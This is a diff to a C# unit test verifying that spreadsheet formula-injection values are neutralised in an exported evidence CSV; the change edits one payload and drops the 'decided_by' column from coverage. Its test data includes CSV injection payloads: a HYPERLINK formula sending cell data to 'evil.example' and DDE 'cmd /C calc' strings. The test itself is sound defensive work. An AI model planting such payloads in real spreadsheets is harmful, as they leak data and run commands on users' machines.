@@ -186,7 +186,7 @@ public sealed class ActiveContentTests
     [InlineData("=HYPERLINK(\"https://evil.example/?d=\"&A1, \"Click\")")]
     [InlineData("+cmd|' /C calc'!A0")]
     [InlineData("-2+3+cmd|' /C calc'!A0")]
-    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
+    [InlineData("@(1+1)*cmd|' /C calc'!A0")]
     [InlineData("\t=1+1")]
     [InlineData("\r=1+1")]
     public void Spreadsheet_formulas_in_any_text_column_are_neutralised(string formula)
@@ -194,14 +194,14 @@ public sealed class ActiveContentTests
         using var temp = new TempSite();
         var yaml = "\"" + formula.Replace("\\", "\\\\").Replace("\"", "\\\"").Replace("\t", "\\t").Replace("\r", "\\r") + "\"";
         temp.Study("alpha").Write("studies/alpha/decisions/d.md",
-            $"---\ntitle: {yaml}\nraised: 2025-01-10\nyou_said: {yaml}\nstatus: not-adopted\nwe_did: {yaml}\nresponded: 2025-02-01\nreason: {yaml}\ndecided_by: {yaml}\n---\n");
+            $"---\ntitle: {yaml}\nraised: 2025-01-10\nyou_said: {yaml}\nstatus: not-adopted\nwe_did: {yaml}\nresponded: 2025-02-01\nreason: {yaml}\n---\n");
         var site = temp.Build();
         Assert.True(site.Result.Succeeded, site.Errors);
         using var csv = new CsvHelper.CsvReader(new StringReader(site.Text("studies/alpha/evidence.csv")), System.Globalization.CultureInfo.InvariantCulture);
         csv.Read();
         csv.ReadHeader();
         Assert.True(csv.Read());
-        foreach (var column in new[] { "title", "you_said", "we_did", "reason", "decided_by" })
+        foreach (var column in new[] { "title", "you_said", "we_did", "reason" })
         {
             var cell = csv.GetField(column)!;
             Assert.StartsWith("'", cell);
